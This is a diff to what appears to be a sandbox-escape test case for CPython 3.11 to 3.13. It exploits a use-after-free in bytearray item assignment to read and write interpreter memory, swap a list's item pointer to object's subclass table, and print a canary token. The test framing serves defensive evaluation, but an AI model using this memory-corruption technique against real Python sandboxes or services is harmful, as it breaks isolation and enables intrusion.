@@ -6,7 +6,7 @@
 # technique: item assignment keeps the buffer's address over a call of __index__; freed and refilled, it is another bytearray's header
 # needs: 64-bit
 # pythons: 3.11.2, 3.12.1, 3.13.0
-# stopped-by: process, supervisor, seccomp
+# stopped-by: permits
 # fix: specific
 # alive-when: canary
 
@@ -26,10 +26,13 @@ class Value:
 buffer = bytearray(56)
 buffer[22] = Value()
 
-# The fourth word of a list points to its items; the third word of a function is its globals.
 box = [None]
 items = int.from_bytes(victim[id(box) + 24 : id(box) + 32], "little")
 kept = victim[items : items + 8]
-victim[items : items + 8] = victim[id(__import__) + 16 : id(__import__) + 24]
-print(box[0]["CANARY"])
+# the subclass table of object, a static type
+victim[items : items + 8] = victim[id(object) + 360 : id(object) + 368]
+table = box[0]
+found = [c for c in [r() for r in dict.values(table)] if c is not None and c.__name__ == "PadcellCanary"]
+print([c.token for c in found])
 victim[items : items + 8] = kept
+del table
